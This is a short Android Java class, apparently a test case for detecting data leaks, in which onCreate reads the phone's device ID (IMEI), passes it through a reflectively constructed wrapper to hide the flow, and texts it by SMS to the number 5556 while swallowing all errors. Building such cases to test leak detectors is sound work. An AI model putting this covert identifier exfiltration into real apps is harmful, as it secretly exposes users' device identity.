package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** An object made by its constructor of texts. */
public class Constructed extends Case {
    interface Give { String give(); }
    public static class Hold implements Give { final String f; public Hold(String f) { this.f = f; } public String give() { return f; } }
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        try {
            Constructor<?> k = Class.forName("org.brookside.ways.Constructed$Hold").getConstructor(String.class);
            Give o = (Give) k.newInstance(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
            SmsManager.getDefault().sendTextMessage("5556", null, o.give(), null, null);
        } catch (Exception x) { }
    }
}
